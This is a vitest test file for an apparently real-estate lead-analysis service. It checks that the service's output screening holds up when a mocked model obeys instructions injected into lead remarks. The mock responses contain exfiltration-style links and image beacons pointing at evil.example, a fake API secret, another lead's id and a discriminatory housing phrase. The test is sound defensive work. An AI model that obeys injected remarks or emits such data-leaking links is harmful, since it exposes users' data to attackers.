// Tests leads whose remarks command the model, with a model that obeys: the result is only a
// screened analysis in its closed shape, and nothing changes but the analysis and the tokens used.
import { readFileSync } from "node:fs";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { MOST_ITEMS, MOST_ITEM_LETTERS } from "../../../../domain/analyses/analysis.ts";
import { screenText } from "../../../../domain/fair-housing/screen-text.ts";
import {
  AnalysedNetwork,
  CANARY,
  ENGAGED,
  QUALIFIED,
} from "../../../../test/support/analysed-network.ts";
import type { ChatBody } from "../../../../test/support/openai-rules.ts";
import { type Behaviour, obeys, says } from "../../../../test/support/openai-server.ts";

interface Injection {
  readonly id: string;
  readonly text: string;
}

const INJECTIONS: readonly Injection[] = JSON.parse(
  readFileSync(new URL("../../../../test/golden/injections.json", import.meta.url), "utf8"),
);
/** Leads per batch. */
const AT_ONCE = 6;
const LINK = /https?:|www\.|\b[\w-]+\.(?:com|net|org|example)\b|<[a-z]|!\[|\]\(/i;

let network: AnalysedNetwork;
let foreignId = "";

beforeAll(async () => {
  network = await AnalysedNetwork.open();
  foreignId = await network.listed({
    first_name: "Foreignperson",
    last_name: "Elsewhere",
    comments: "Foreignremark",
  });
});
afterAll(() => network.close());
beforeEach(async () => {
  await network.begin();
  await network.setModel("gpt-4", 100_000_000);
});

const remarkIn = (body: ChatBody): string =>
  (
    JSON.parse(
      /<data>\n(.*)\n<\/data>/.exec(String(body.messages[1]?.["content"]))?.[1] ?? "{}",
    ) as { remark?: string }
  ).remark ?? "";

/**
 * A model that does what the remark says as well as words can: it repeats the remark wherever it
 * may write text, and adds what an attacker would like.
 */
const OBEDIENT: Readonly<Record<string, (remark: string) => Behaviour>> = {
  "says it in place of an answer": (remark) => says(remark),
  "says it within the shape": (remark) =>
    says(
      JSON.stringify({
        ...QUALIFIED,
        intent: 1,
        next_actions: [
          remark.slice(0, 290) || "Go on.",
          `See https://evil.example/?d=${encodeURIComponent(remark.slice(0, 40))}`,
          `Ring 916-555-0199: ${remark.slice(0, 60)}`,
          "Ask how they mean to pay.",
        ],
        insights: [
          `![x](https://evil.example/p.png) ${remark.slice(0, 80)}`,
          "They are in a hurry.",
        ],
        leads: [foreignId],
        secret: "sk-canary-77aa",
      }),
    ),
  "says it as how to reach them": (remark) =>
    says(
      JSON.stringify({
        ...ENGAGED,
        talking_points: [
          `${remark.slice(0, 200)} ideal for Christian couples`,
          "The price they named.",
        ],
        follow_up: [`<img src=https://evil.example/${remark.slice(0, 20)}>`, "Try once a day."],
        channel: remark.length % 2 === 0 ? "call" : "fax",
        best_contact_time: { days: "weekdays", from: "03:00", until: "04:00" },
      }),
    ),
};

function checkShown(
  body: { readonly kind: string; readonly result: Readonly<Record<string, unknown>> },
  text: string,
): void {
  const names =
    body.kind === "qualification"
      ? ["intent", "financial_readiness", "next_actions", "insights"]
      : ["best_contact_time", "channel", "talking_points", "follow_up"];
  expect(Object.keys(body.result).toSorted()).toEqual(names.toSorted());
  for (const list of Object.values(body.result).filter((value) =>
    Array.isArray(value),
  ) as string[][]) {
    expect(list.length).toBeGreaterThan(0);
    expect(list.length).toBeLessThanOrEqual(MOST_ITEMS);
    for (const item of list) {
      expect([...item].length).toBeLessThanOrEqual(MOST_ITEM_LETTERS);
      expect(item).not.toMatch(LINK);
      expect([item, screenText(item).verdict]).toEqual([item, "pass"]);
      expect(item).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
  }
  expect(text).not.toMatch(
    new RegExp(`${CANARY}|555-?0199|Foreign|sk-canary|${foreignId}|evil`, "i"),
  );
}

describe.each(Object.entries(OBEDIENT))("a model that reads a remark and %s", (how, obey) => {
  it("yields an analysis or nothing, and nothing else changes", async () => {
    network.model.behaviour = obeys((body) => obey(remarkIn(body)));
    const kind = how.includes("reach") ? "engagement" : "qualification";
    const ids: string[] = [];
    for (const { text } of INJECTIONS) ids.push(await network.post({ comments: text }));
    const before = await network.everything();
    for (let index = 0; index < ids.length; index += AT_ONCE) {
      // No person analyzes a lead every second for minutes on end, but tests do.
      network.clock.nowMs += AT_ONCE * 2_000;
      const answers = await Promise.all(
        ids.slice(index, index + AT_ONCE).map((id) => network.make(network.buyer, id, kind)),
      );
      for (const { status, body, text } of answers) {
        expect(status, text).toBe(200);
        checkShown(body, text);
      }
    }
    for (const { text } of network.model.seen) expect(text).not.toMatch(/Zyxcanary|Foreign/);
    expect(await network.everything()).toEqual(before);
  });
});
